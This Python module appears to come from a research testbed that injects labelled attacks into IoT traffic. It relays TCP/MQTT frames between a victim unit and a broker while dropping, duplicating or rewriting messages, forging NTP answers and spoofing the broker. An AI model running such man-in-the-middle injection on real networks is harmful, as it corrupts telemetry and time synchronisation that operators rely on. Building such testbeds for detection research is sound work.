"""Forwards each frame, translates its TCP sequence numbers and applies the edit of the attack (drop, repeat, rewrite)."""

from coldaisle_contracts.addressing import BROKER, INJECTOR, Host
from coldaisle_contracts.journal_lines import FrameAct
from coldaisle_contracts.taxonomy import Role
from coldaisle_injector import frames, segments
from coldaisle_injector.connection import Connection, Half
from coldaisle_injector.editing import ANSWERS, Editor
from coldaisle_injector.edits import Double, Edit, Lose, Pass, Tamper
from coldaisle_injector.notes import Notes
from coldaisle_injector.segments import ACK, RST, SYN, Segment
from coldaisle_injector.spoofing import Spoofer
from coldaisle_injector.wire import Wire

_IN_FLIGHT = 16
"""Number of rewritten payloads to keep; TCP has fewer segments unacknowledged here."""
_DISCARDED = ("tcp.checksum", "tcp.seq", "tcp.ack", "eth.dst")
"""Fields with which a frame is discarded by the broker's kernel, or never reaches it."""


class Relay:
    """Passes frames on between a unit and the broker.

    Args:
        unit: the victim.
        wire: the attacker's socket.
        notes: its journal.
        spoofer: has the connections, and repeats frames.
        editor: edits the messages in the frames.
    """

    def __init__(self, unit: Host, wire: Wire, notes: Notes, spoofer: Spoofer, editor: Editor) -> None:
        self._unit, self._wire, self._notes = unit, wire, notes
        self._spoofer, self._editor = spoofer, editor

    def on_other(self, frame: bytes, *, upward: bool) -> None:
        """Pass on a frame that is not MQTT; the attack may replace an answer of the NTP server."""
        self._note_relayed(frame)
        outgoing = segments.renew(frame, _macs(BROKER if upward else self._unit))
        answer = None if upward else segments.datagram(frame)
        if answer is not None and (forged := self._editor.answer(answer)) != answer:
            outgoing = segments.with_datagram(frame, _macs(self._unit), forged)
            self._notes.frame(outgoing, self._unit, Role.MODIFIED, "alter", anomalous=True)
        self._wire.send(outgoing)

    def on_segment(self, segment: Segment, *, editing: bool) -> bool:
        """Pass on a segment with the edits of the attack.

        Args:
            segment: the segment that arrived.
            editing: whether the attack may edit its data.

        Returns:
            Whether it carried new data, or is all that the broker answers to a reading of QoS 0: it acknowledges new data.
        """
        upward = segment.source == self._unit.ip
        if upward and self._editor.refuses(segment):
            self._refuse(segment)
            return False
        if upward and self._impersonated(segment):
            return False
        conn = self._connection(segment, upward=upward)
        half, other = (conn.up, conn.down) if upward else (conn.down, conn.up)
        fresh = half.see(segment, self._notes.times.wall_ns()) and bool(segment.payload)
        answers = not upward and self._spoofer.only_tcp_answers and segment.ack != half.acked[0]
        if not upward:  # the capture saw it before the attacker did
            self._note_answer(segment, conn)
        payload, edit = self._edited(conn, segment, upward=upward, editing=fresh and editing)
        frame = self._outward(segment, half, other, payload, upward=upward)
        if frame is None:
            if upward:
                self._note_swallowed(segment, edit)
        elif upward:
            self._send_up(segment, frame, conn, edit, changed=payload != segment.payload)
        else:
            self._wire.send(frame)
        return fresh or answers

    def _refuse(self, segment: Segment) -> None:
        """Answer a request for a connection in the broker's name: nobody listens."""
        self._notes.frame(segment.frame, self._unit, Role.CONSEQUENCE, "swallow", anomalous=True)
        self._notes.refused(segment.sport)
        refusal = frames.refusal(segment, _macs(self._unit))
        self._spoofer.send(refusal, self._unit, Role.INJECTED, "refuse")

    def _impersonated(self, segment: Segment) -> bool:
        """Tell whether the attack answers a segment in the broker's name, and send the answers."""
        answers = self._editor.attack.impersonated(segment, begins=self._editor.acting)
        if answers is None:
            return False
        self._notes.frame(segment.frame, self._unit, Role.CONSEQUENCE, "swallow", anomalous=True)
        if segment.flags & SYN:
            self._notes.refused(segment.sport)
        for frame in answers:
            self._spoofer.send(frame, self._unit, Role.INJECTED, "impersonate")
        return True

    def _edited(
        self, conn: Connection, segment: Segment, *, upward: bool, editing: bool
    ) -> tuple[bytes, Edit]:
        """Return the payload to pass on for a segment, the same for each retransmission, and the edit that was made now."""
        rewritten = (conn.up if upward else conn.down).rewritten
        edit: Edit = Pass()
        if editing:
            rewritten[segment.seq], edit = self._editor.edit(conn, segment, upward=upward)
            if len(rewritten) > _IN_FLIGHT:
                rewritten.pop(next(iter(rewritten)))
        return rewritten.get(segment.seq, segment.payload) if segment.payload else b"", edit

    def _connection(self, segment: Segment, *, upward: bool) -> Connection:
        """Return the connection of a segment; a SYN from the unit begins a new one."""
        port = segment.sport if upward else segment.dport
        connections = self._spoofer.connections
        if port not in connections or (upward and segment.flags & (SYN | ACK) == SYN):
            connections[port] = Connection(port, begun=bool(segment.flags & SYN))
        conn = connections[port]
        conn.closed = conn.closed or bool(segment.flags & RST)
        return conn

    def _note_answer(self, segment: Segment, conn: Connection) -> None:
        """Journal a segment from the broker: a consequence where it answers an action of the attacker, else relayed."""
        caused = conn.confirms(segment) or conn.losing or (conn.doubled and segments.has_sack(segment))
        answers = (
            message.type in ANSWERS and message.mid in (*conn.copies, *conn.renamed)
            for message in self._editor.messages(segment)
        )
        if (caused and not segment.payload) or any(answers):
            conn.doubled = conn.doubled and not segments.has_sack(segment)
            self._notes.frame(segment.frame, BROKER, Role.CONSEQUENCE, "reply", anomalous=True)
        else:
            self._note_relayed(segment.frame)

    def _note_relayed(self, frame: bytes) -> None:
        touched = self._editor.relaying_is_the_attack
        self._notes.frame(frame, BROKER, Role.RELAYED, "relay", anomalous=touched)

    def _outward(
        self, segment: Segment, half: Half, other: Half, payload: bytes, *, upward: bool
    ) -> bytes | None:
        """Return the frame of a segment with the other side's sequence numbers, ``None`` when nothing of it remains."""
        macs = _macs(BROKER if upward else self._unit)
        seq = half.stream.outward(segment.seq)
        ack = other.stream.inward(segment.ack) if segment.flags & ACK else segment.ack
        # An acknowledgement of data that the other side never sent must not reach it.
        pure = not segment.payload and segment.flags == ACK
        hollow = pure and ack == half.acked[1] and segment.ack != half.acked[0]
        half.acked = (segment.ack, ack)
        if hollow or (segment.payload and not payload):
            return None
        if payload != segment.payload:
            return segments.translate(segment, macs, seq, ack, payload)
        if (seq, ack) != (segment.seq, segment.ack) or not segments.is_sound(segment):
            return segments.translate(segment, macs, seq, ack)
        return segments.readdress(segment.frame, *macs)

    def _note_swallowed(self, segment: Segment, edit: Edit) -> None:
        """Journal a frame from the unit that is not passed on: a removed reading, its retransmission, or an acknowledgement."""
        role = Role.CONSEQUENCE if isinstance(edit, Pass) else Role.REMOVED
        self._notes.frame(segment.frame, self._unit, role, "swallow", anomalous=True)

    def _send_up(
        self, segment: Segment, frame: bytes, conn: Connection, edit: Edit, *, changed: bool
    ) -> None:
        """Send a frame to the broker as the edit says, and journal it."""
        if self._lost(segment, frame, conn, edit):
            return
        role, act = _role_and_act(edit, changed=changed)
        side = BROKER
        if isinstance(edit, Tamper) and not edit.field.startswith("mqtt."):
            frame = frames.tampered(frame, edit.field, edit.value)
            role, act = Role.MODIFIED, "alter"
            if edit.field in _DISCARDED:
                conn.losing[segment.seq] = 0
                side = self._unit if edit.field == "eth.dst" else BROKER
        elif conn.losing.pop(segment.seq, None) is not None:
            role, act = Role.CONSEQUENCE, "repeat"
        self._wire.send(frame)
        touched = role is not Role.RELAYED or self._editor.relaying_is_the_attack
        digest = self._notes.frame(frame, side, role, act, anomalous=touched)
        if isinstance(edit, Double):
            conn.doubled = True
            self._spoofer.send(frame, BROKER, Role.DUPLICATE, "double")
        self._editor.note(edit, conn, digest)

    def _lost(self, segment: Segment, frame: bytes, conn: Connection, edit: Edit) -> bool:
        """Tell whether a segment is dropped, for the first time or again, and journal it if so."""
        again = conn.losing.get(segment.seq, 0)
        if isinstance(edit, Lose):
            again = edit.times
            self._editor.note(edit, conn, "")
        if not again:
            return False
        conn.losing[segment.seq] = again - 1
        role = Role.REMOVED if isinstance(edit, Lose) else Role.CONSEQUENCE
        self._notes.frame(frame, self._unit, role, "lose", anomalous=True)
        return True


def _role_and_act(edit: Edit, *, changed: bool) -> tuple[Role, FrameAct]:
    """Return role and act of a segment that an edit may have changed; without an edit now, the unit's kernel repeats a changed one."""
    if not changed:
        return Role.RELAYED, "relay"
    return (Role.CONSEQUENCE, "repeat") if isinstance(edit, Pass) else (Role.MODIFIED, "alter")


def _macs(target: Host) -> tuple[str, str]:
    return INJECTOR.mac, target.mac
